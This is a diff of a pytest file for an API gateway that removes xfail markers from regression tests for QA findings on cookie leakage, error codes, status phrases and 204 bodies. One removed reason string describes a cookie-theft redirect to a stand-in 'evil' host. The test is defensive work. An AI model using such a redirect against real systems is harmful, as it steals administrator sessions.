@@ -33,11 +33,6 @@ def call(demo: DemoSummary, **headers: str) -> Any:
 # -- 1. the console's cookies reach the assembly ------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 1: the gateway hands the console's Cookie header (sessionid, csrftoken) to assemblies; "
-    "an assembly redirecting to Location: https://evil/?c=$(request.headers.cookie) steals an admin session",
-)
 def test_an_assembly_cannot_read_the_consoles_cookies(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
     publish(sandbox, actor, [{"set": "message.body", "value": "[$(request.headers.cookie)]", "type": "string"}])
 
@@ -60,11 +55,6 @@ def test_an_assembly_reads_other_request_headers(demo: DemoSummary, sandbox: Cat
 # -- 2. bad input from the caller is a 500 -----------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 3: a request header that set-variable cannot convert (type number) answers 500, "
-    "not 400 (tokens.assembly set-variable conversion raises a non-request AssemblyError)",
-)
 def test_a_request_value_set_variable_cannot_convert_is_a_400(
     demo: DemoSummary, sandbox: Catalog, actor: Actor
 ) -> None:
@@ -88,21 +78,11 @@ def test_a_request_value_set_variable_converts_is_answered(demo: DemoSummary, sa
 # -- 3. a status code no HTTP answer can carry ---------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 4: message.status.code 1000 publishes, then every call answers '500 OK' with an empty "
-    "body, no JSON shape and no log line (tokens.views._response_from)",
-)
 def test_a_status_code_out_of_range_is_refused_at_publish(sandbox: Catalog, actor: Actor) -> None:
     with pytest.raises((PolicyConfigError, PublishError)):
         publish(sandbox, actor, [{"set": "message.status.code", "value": 1000, "type": "number"}])
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 4: an assembly that sets only message.status.code 201 answers '201 OK': the default "
-    "reason 'OK' is kept for every status (tokens.views._response_from)",
-)
 def test_a_status_without_a_reason_gets_its_own_phrase(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
     publish(sandbox, actor, [{"set": "message.status.code", "value": 201, "type": "number"}])
 
@@ -130,11 +110,6 @@ def test_a_status_with_its_reason_is_answered(demo: DemoSummary, sandbox: Catalo
 # -- 4. a body on a status that has none ---------------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 5: a 204 answer carries the assembly's body and Content-Length (RFC 9110 15.3.5 forbids "
-    "content on 204/304; on a kept-alive connection the bytes are read as the next answer)",
-)
 def test_a_204_answer_has_no_body(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
     publish(
         sandbox,
